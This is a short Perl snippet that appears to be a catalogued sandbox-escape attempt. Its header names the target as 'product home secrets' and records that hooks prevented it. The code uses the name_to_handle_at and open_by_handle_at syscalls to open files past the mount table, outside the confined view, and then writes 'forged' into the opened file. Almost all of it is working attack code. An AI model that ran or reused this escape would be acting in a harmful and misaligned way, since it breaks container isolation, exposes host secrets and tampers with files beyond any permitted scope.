# title: opens files by handle, past the mount table
# success: product home secrets
# hooks: prevented
# name_to_handle_at on something that is visible, then open_by_handle_at on that file system.
my $handle = pack('I i a128', 128, 0, ''); my $id = pack('i', 0);
my $got = syscall(303, -100, my $p = 'src/app.js', $handle, $id, 0);
open my $root, '<', '.' or die;
my $fd = syscall(304, fileno($root), $handle, 1);
print "handle $got open $fd $!\n";
if ($fd >= 0) { syscall(1, $fd, my $text = "forged\n", 7) }
